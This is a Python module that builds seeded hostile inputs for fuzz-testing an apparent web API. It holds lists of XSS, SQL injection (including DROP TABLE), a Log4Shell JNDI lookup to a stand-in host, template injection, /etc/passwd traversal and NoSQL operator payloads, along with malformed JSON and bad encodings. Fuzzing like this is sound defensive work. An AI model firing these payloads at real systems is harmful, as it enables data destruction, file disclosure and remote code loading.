"""A seeded generator of hostile inputs for the fuzz test: strings, JSON bodies and raw bytes."""

from __future__ import annotations

import json
import random
from typing import Any

SCRIPTS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>',
           "javascript:alert(1)", "<iframe src=//evil.example>", "{{7*7}}", "${jndi:ldap://x.example/a}"]
SQL = ["' OR 1=1 --", "'; DROP TABLE leads; --", "1; SELECT * FROM followups", "\" OR \"\"=\"", "%' AND 1=0 UNION--"]
UNICODE = ["\u202eevil\u202c", "\u200b\u200c\u200d\ufeff", "e\u0301" * 40, "👩‍👩‍👧‍👦🏳️‍🌈🙂" * 5, "\x00", "\ud800",
           "\udfff\ud800", "\u03a9\u2248\u00e7\u221a\u222b\u02dc\u00b5", "\ufdfa" * 30,
           "\U0001d573\U0001d58a\U0001d591", "ائتمان الرصاص", "\u0000\u0001\u001f\u007f",
           "\r\n\r\nHTTP/1.1 200 OK", "../../etc/passwd", "%s%s%s%n", "{0.__class__}", "NaN", "1e309", "-0"]


class Hostile:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def word(self, longest: int = 4000) -> str:
        return self.rng.choice("ab€漢😀") * self.rng.choice([50, 500, longest])

    def control(self) -> str:
        return "".join(chr(self.rng.randrange(0, 32)) for _ in range(self.rng.randint(1, 40)))

    def text(self, longest: int = 4000) -> str:
        """One hostile string (at most `longest` characters)."""
        kind = self.rng.randrange(6)
        if kind == 0:
            s = self.rng.choice(SCRIPTS)
        elif kind == 1:
            s = self.rng.choice(SQL)
        elif kind == 2:
            s = "".join(self.rng.choice(UNICODE) for _ in range(self.rng.randint(1, 4)))
        elif kind == 3:
            s = self.control()
        elif kind == 4:
            s = self.word(longest)
        else:
            s = f"my email is {self.rng.choice(SQL)}@x.example {self.rng.choice(SCRIPTS)}"
        return s[:longest]

    def scalar(self) -> Any:
        return self.rng.choice([None, True, 0, -1, 2**63, 1.5e308, "", self.text(200), [], {}, [1, "a"],
                                {"$ne": None}])

    def nested(self, depth: int | None = None) -> str:
        depth = depth or self.rng.choice([100, 1000, 5000, 20000])
        if self.rng.random() < 0.5:
            return "[" * depth + "]" * depth
        return '{"a":' * depth + "1" + "}" * depth

    def malformed(self) -> bytes:
        return self.rng.choice([b"{", b"}", b"[1,]", b'{"a":}', b"\xff\xfe\x00", b'{"a": "\xc3\x28"}', b"nul",
                                b"\x00" * 64, b'{"sender": "x", "message": "hi"', b"", b"  ", b"<xml/>",
                                "é".encode("latin-1"), b'{"a": NaN}', b'{"a": 1e99999}'])

    def json_body(self, template: dict[str, Any]) -> bytes:
        """The template with one field replaced by something hostile, or a broken body."""
        choice = self.rng.randrange(6)
        if choice == 0:
            return self.malformed()
        if choice == 1:
            return self.nested().encode()
        if choice == 2:
            return json.dumps(self.rng.choice([[], None, "x", 1, [template]])).encode()
        body = dict(template)
        key = self.rng.choice([*body, "extra"]) if body else "extra"
        body[key] = self.scalar() if choice == 3 else self.text()
        raw = json.dumps(body, ensure_ascii=self.rng.random() < 0.5).encode("utf-8", "surrogatepass")
        if choice == 5:  # invalid UTF-8 inside an otherwise valid body
            cut = self.rng.randrange(len(raw) + 1)
            raw = raw[:cut] + self.rng.choice([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf0\x28\x8c\x28"]) + raw[cut:]
        return raw

    def content_type(self) -> str:
        return self.rng.choice(["application/json", "application/json", "text/plain", "application/xml",
                                "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
                                "application/json; charset=latin-1", "application/octet-stream"])
